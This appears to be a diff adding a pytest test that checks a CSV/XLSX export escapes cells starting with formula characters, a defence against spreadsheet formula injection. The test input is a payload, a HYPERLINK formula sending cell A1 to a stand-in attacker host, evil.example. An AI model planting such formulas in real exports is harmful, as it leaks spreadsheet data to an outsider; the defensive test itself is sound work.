@@ -131,6 +131,19 @@ def test_rows_fit_their_columns() -> None:
         write_xlsx("一", [Column(header="一")], [[]])
 
 
+@pytest.mark.parametrize(
+    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "　＝"]
+)
+def test_no_text_is_calculated(sign: str) -> None:
+    """R: a name is a name: in CSV with an apostrophe in front, in XLSX as a text."""
+    text = f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
+    columns = [Column(header=text)]
+    rows = list(csv.reader(io.StringIO(write_csv(columns, [[text], ["张三"]]).decode("utf-8-sig"))))
+    assert rows == [[f"'{text}"], [f"'{text}"], ["张三"]]
+    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx("表", columns, [[text]]))).worksheets[0]
+    assert [sheet.cell(row, 1).data_type for row in (1, 2)] == ["s", "s"]
+
+
 def params(*columns: dict[str, object], **more: object) -> RegistrationListParams:
     return RegistrationListParams.model_validate({"columns": list(columns), **more})
 
